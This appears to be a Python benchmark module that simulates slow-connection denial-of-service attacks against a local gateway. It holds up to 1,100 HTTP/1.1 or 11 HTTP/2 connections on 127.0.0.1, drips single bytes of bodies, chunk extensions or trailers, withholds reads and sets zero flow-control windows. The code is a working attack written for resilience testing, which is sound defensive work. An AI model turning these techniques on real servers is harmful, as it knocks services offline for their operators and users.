"""Hold all upstream connections from one address: ``python -m bench.attack_clients``.

The arguments are a form of the attack and the gate's two ports, without and with TLS. It opens all
connections and stalls them, and immediately replaces any that the gate cuts. It runs until it is
ended, for `SECONDS` at most. It prints ``ready`` once all have been opened for the first time.
"""

from __future__ import annotations

import asyncio
import socket
import ssl
import sys
from collections.abc import Callable, Mapping
from contextlib import suppress
from typing import Final

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.events import ConnectionTerminated, StreamEnded
from h2.exceptions import ProtocolError
from h2.settings import SettingCodes, Settings

SECONDS: Final = 30.0
CONNECTIONS: Final = 1100
HTTP2_CONNECTIONS: Final = 11
STREAMS: Final = 100
DRIP_S: Final = 0.5
POST_EVERY_S: Final = 50.0
RECEIVE_BYTES: Final = 4096
_AT_ONCE: Final = 50


class Stalled(asyncio.Protocol):
    """A connection that sends the start of a request, then single bytes, and may never read.

    Args:
        first: What it sends first.
        drip: What it sends every `DRIP_S`.
        reads: Whether it reads the response.
    """

    def __init__(self, first: bytes, drip: bytes, *, reads: bool) -> None:
        self._first = first
        self._drip = drip
        self._reads = reads
        self.lost: asyncio.Future[None] = asyncio.get_running_loop().create_future()

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        """Start the request."""
        assert isinstance(transport, asyncio.Transport)
        self._transport = transport
        transport.write(self._first)
        if not self._reads:
            transport.pause_reading()
        self._send()

    def data_received(self, data: bytes) -> None:
        """Disconnect, because any response means that this request is over."""
        self._transport.abort()

    def connection_lost(self, exc: Exception | None) -> None:
        """Report it."""
        if not self.lost.done():
            self.lost.set_result(None)

    def _send(self) -> None:
        if self._drip and not self._transport.is_closing():
            self._transport.write(self._drip)
            asyncio.get_running_loop().call_later(DRIP_S, self._send)


class Http2(asyncio.Protocol):
    """An HTTP/2 connection with the maximum number of stalled streams.

    Args:
        posts: Whether they are uploads that send one byte every `POST_EVERY_S`; otherwise they are
            downloads that read nothing.
    """

    def __init__(self, *, posts: bool) -> None:
        self._posts = posts
        self._h2 = H2Connection(H2Configuration(client_side=True, header_encoding=None))
        self.lost: asyncio.Future[None] = asyncio.get_running_loop().create_future()

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        """Open all streams."""
        assert isinstance(transport, asyncio.Transport)
        self._transport = transport
        if not self._posts:
            no_window = {SettingCodes.INITIAL_WINDOW_SIZE: 0}
            self._h2.local_settings = Settings(client=True, initial_values=no_window)
        self._h2.initiate_connection()
        self._open()
        self._flush()
        if self._posts:
            asyncio.get_running_loop().call_later(POST_EVERY_S, self._drip)

    def data_received(self, data: bytes) -> None:
        """Replace each stream that was cut."""
        try:
            events = self._h2.receive_data(data)
        except ProtocolError:
            self._transport.abort()
            return
        for event in events:
            if isinstance(event, StreamEnded):
                with suppress(ProtocolError):
                    self._h2.reset_stream(event.stream_id)
            elif isinstance(event, ConnectionTerminated):
                self._transport.abort()
                return
        self._open()
        self._flush()

    def connection_lost(self, exc: Exception | None) -> None:
        """Report it."""
        if not self.lost.done():
            self.lost.set_result(None)

    def _open(self) -> None:
        while self._h2.open_outbound_streams < STREAMS:
            self._open_one()

    def _open_one(self) -> None:
        number = self._h2.get_next_available_stream_id()
        fields = [(":scheme", "https"), (":authority", "localhost")]
        if self._posts:
            self._h2.send_headers(number, [(":method", "POST"), (":path", "/"), *fields])
            self._h2.send_data(number, b"x")
        else:
            fields = [(":method", "GET"), (":path", "/large"), *fields]
            self._h2.send_headers(number, fields, end_stream=True)

    def _drip(self) -> None:
        for number in list(self._h2.streams):
            if self._h2.streams[number].open:
                self._h2.send_data(number, b"x")
        self._flush()

    def _flush(self) -> None:
        self._transport.write(self._h2.data_to_send())


_POST = b"POST / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
_GET = b"GET /large HTTP/1.1\r\nHost: localhost\r\n\r\n"

FORMS: Mapping[str, tuple[int, bool, Callable[[], Stalled | Http2]]] = {
    "HTTP/2: uploads of a byte per 50 s": (HTTP2_CONNECTIONS, True, lambda: Http2(posts=True)),
    "HTTP/2: downloads, no window": (HTTP2_CONNECTIONS, True, lambda: Http2(posts=False)),
    "HTTP/1.1: bodies in drips": (
        CONNECTIONS,
        False,
        lambda: Stalled(_POST, b"1\r\nx\r\n", reads=True),
    ),
    "HTTP/1.1: chunk extensions in drips": (
        CONNECTIONS,
        False,
        lambda: Stalled(_POST + b"1\r\nx\r\n1;", b"x", reads=True),
    ),
    "HTTP/1.1: trailers in drips": (
        CONNECTIONS,
        False,
        lambda: Stalled(_POST + b"1\r\nx\r\n0\r\nX-T: ", b"x", reads=True),
    ),
    "HTTP/1.1: downloads, nothing read": (
        CONNECTIONS,
        False,
        lambda: Stalled(_GET, b"", reads=False),
    ),
}
"""For each form: how many connections it needs, whether they are HTTP/2, and a function that makes
one."""


async def hold(make: Callable[[], Stalled | Http2], port: int, tls: ssl.SSLContext | None) -> None:
    """Keep one connection open, and replace it whenever it is lost."""
    loop = asyncio.get_running_loop()
    while True:
        try:
            sock = _connect(port)
            name = "localhost" if tls else None
            _, protocol = await loop.create_connection(
                make, sock=sock, ssl=tls, server_hostname=name
            )
        except OSError:
            await asyncio.sleep(0.1)
            continue
        _opened.release()
        await protocol.lost


def _connect(port: int) -> socket.socket:
    """Return a connection to the gate with the smallest receive buffer."""
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, RECEIVE_BYTES)
    sock.connect(("127.0.0.1", port))
    sock.setblocking(False)
    return sock


_opened = asyncio.Semaphore(0)


async def main(form: str, port: int, tls_port: int) -> None:
    """Run one form of the attack."""
    count, is_http2, make = FORMS[form]
    tls = None
    if is_http2:
        tls = ssl.create_default_context()
        tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
        tls.set_alpn_protocols(["h2"])
    loop = asyncio.get_running_loop()
    holding = []
    async with asyncio.timeout(SECONDS):
        for number in range(count):
            holding.append(loop.create_task(hold(make, tls_port if tls else port, tls)))
            if number % _AT_ONCE == _AT_ONCE - 1:
                await asyncio.sleep(0.05)
        for _ in range(count):
            await _opened.acquire()
        print("ready", flush=True)
        await asyncio.gather(*holding)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3])))
